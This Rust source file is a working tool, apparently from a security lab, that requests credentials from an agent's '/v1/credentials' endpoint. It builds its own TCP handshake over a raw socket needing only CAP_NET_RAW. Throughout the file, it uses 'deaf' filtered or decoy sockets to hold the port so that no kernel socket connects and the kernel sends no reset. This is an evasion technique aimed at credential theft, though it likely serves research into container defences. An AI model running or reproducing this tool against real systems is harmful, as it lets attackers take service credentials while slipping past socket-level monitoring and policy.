//! Asks the agent for credentials with a TCP stack of its own, which needs CAP_NET_RAW only (containerd's default): no socket
//! of the kernel's ever connects.
//!
//! `stealth [--decoy] ADDR:PORT`, IPv4. A raw socket sends and receives. A listening socket that a filter keeps deaf holds the
//! port, so that the kernel does not answer what comes back with a reset. With `--decoy` a connecting socket holds it instead:
//! its SYN is the kernel's, and it stays deaf to the answer, which the raw socket takes.

use std::{
    net::{Ipv4Addr, SocketAddrV4, TcpListener, UdpSocket},
    os::fd::OwnedFd,
    time::{Duration, Instant},
};

use anyhow::{Context, Result, bail, ensure};
use lab::sys::deaf::deafen;
use rustix::{
    io::Errno,
    net::{
        AddressFamily, RecvFlags, SendFlags, SocketFlags, SocketType, bind, connect, getsockname,
        ipproto, recv, sendto, socket_with, sockopt,
    },
};

const SYN: u8 = 0x02;
const RST: u8 = 0x04;
const PSH: u8 = 0x08;
const ACK: u8 = 0x10;
const PATIENCE: Duration = Duration::from_secs(10);

fn main() -> Result<()> {
    let mut args = std::env::args().skip(1).peekable();
    let is_decoy = args.next_if(|arg| arg == "--decoy").is_some();
    let address = args.next().context("usage: stealth [--decoy] ADDR:PORT")?;
    let server: SocketAddrV4 = address.parse().context(address)?;
    // A datagram socket's connect sends nothing, and tells which address the route takes.
    let probe = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    probe.connect(server)?;
    let std::net::IpAddr::V4(own) = probe.local_addr()?.ip() else {
        bail!("no IPv4 address");
    };
    let holder: OwnedFd = if is_decoy {
        let decoy = socket_with(
            AddressFamily::INET,
            SocketType::STREAM,
            SocketFlags::CLOEXEC | SocketFlags::NONBLOCK,
            None,
        )?;
        bind(&decoy, &SocketAddrV4::new(own, 0))?;
        decoy
    } else {
        let listener = TcpListener::bind((own, 0)).context("hold a port")?;
        listener.into()
    };
    deafen(&holder).context("attach a filter")?;
    let client = SocketAddrV4::try_from(getsockname(&holder)?)?;

    let socket = socket_with(
        AddressFamily::INET,
        SocketType::RAW,
        SocketFlags::CLOEXEC,
        Some(ipproto::TCP),
    )
    .context("open a raw socket")?;
    sockopt::set_socket_timeout(
        &socket,
        sockopt::Timeout::Recv,
        Some(Duration::from_millis(200)),
    )?;
    let mut stack = Stack {
        client,
        server,
        next: 1_000_000,
        expected: 0,
    };
    let send = |segment: Vec<u8>| sendto(&socket, &segment, SendFlags::empty(), &server);
    let answer = |stack: &Stack| -> Result<Segment> {
        let deadline = Instant::now() + PATIENCE;
        let mut buffer = [0u8; 4096];
        while Instant::now() < deadline {
            let Ok((length, _)) = recv(&socket, &mut buffer[..], RecvFlags::empty()) else {
                continue;
            };
            if let Some(segment) = stack.parse(&buffer[..length]) {
                ensure!(segment.flags & RST == 0, "the agent reset the connection");
                return Ok(segment);
            }
        }
        bail!("no answer from {server}")
    };

    if is_decoy {
        ensure!(
            connect(&holder, &server) == Err(Errno::INPROGRESS),
            "the decoy's connect does not stay in progress"
        );
    } else {
        send(stack.segment(SYN, b""))?;
    }
    let greeting = answer(&stack)?;
    ensure!(greeting.flags & (SYN | ACK) == SYN | ACK, "no SYN-ACK");
    stack.next = greeting.acknowledged;
    stack.expected = greeting.sequence.wrapping_add(1);
    let request = format!(
        "GET /v1/credentials HTTP/1.1\r\nhost: {}\r\n\r\n",
        server.ip()
    );
    let request = request.as_bytes();
    send(stack.segment(ACK, b""))?;
    send(stack.segment(ACK | PSH, request))?;
    stack.next = stack.next.wrapping_add(u32::try_from(request.len())?);
    let answered = loop {
        let segment = answer(&stack)?;
        if segment.length > 0 {
            stack.expected = segment.sequence.wrapping_add(segment.length);
            break segment.length;
        }
    };
    send(stack.segment(RST | ACK, b""))?;
    println!("{server}: {answered} bytes of an answer");
    Ok(())
}

struct Stack {
    client: SocketAddrV4,
    server: SocketAddrV4,
    /// Sequence number of the next byte to send, and of the next one expected.
    next: u32,
    expected: u32,
}

struct Segment {
    flags: u8,
    sequence: u32,
    acknowledged: u32,
    length: u32,
}

impl Stack {
    /// A TCP segment with its checksum (RFC 9293 3.1); the kernel puts the IP header before it.
    fn segment(&self, flags: u8, payload: &[u8]) -> Vec<u8> {
        let mut segment = Vec::with_capacity(20 + payload.len());
        segment.extend(self.client.port().to_be_bytes());
        segment.extend(self.server.port().to_be_bytes());
        segment.extend(self.next.to_be_bytes());
        segment.extend(self.expected.to_be_bytes());
        segment.extend([5 << 4, flags]);
        segment.extend(64_000_u16.to_be_bytes());
        segment.extend([0; 4]);
        segment.extend(payload);
        let mut covered = Vec::with_capacity(12 + segment.len());
        covered.extend(self.client.ip().octets());
        covered.extend(self.server.ip().octets());
        covered.extend([0, 6]);
        covered.extend((segment.len() as u16).to_be_bytes());
        covered.extend(&segment);
        let sum = checksum(&covered).to_be_bytes();
        segment[16..18].copy_from_slice(&sum);
        segment
    }

    /// A segment of this connection from an IP packet; others are passed over.
    fn parse(&self, packet: &[u8]) -> Option<Segment> {
        let header = usize::from(packet.first()? & 0x0f) * 4;
        let segment = packet.get(header..)?;
        let short = |at: usize| {
            Some(u16::from_be_bytes(
                segment.get(at..at + 2)?.try_into().ok()?,
            ))
        };
        if short(0)? != self.server.port() || short(2)? != self.client.port() {
            return None;
        }
        let offset = usize::from(segment.get(12)? >> 4) * 4;
        Some(Segment {
            flags: *segment.get(13)?,
            sequence: u32::from_be_bytes(segment.get(4..8)?.try_into().ok()?),
            acknowledged: u32::from_be_bytes(segment.get(8..12)?.try_into().ok()?),
            length: u32::try_from(segment.len().checked_sub(offset)?).ok()?,
        })
    }
}

/// RFC 1071.
fn checksum(bytes: &[u8]) -> u16 {
    let mut sum: u32 = bytes
        .chunks(2)
        .map(|pair| u32::from(u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}
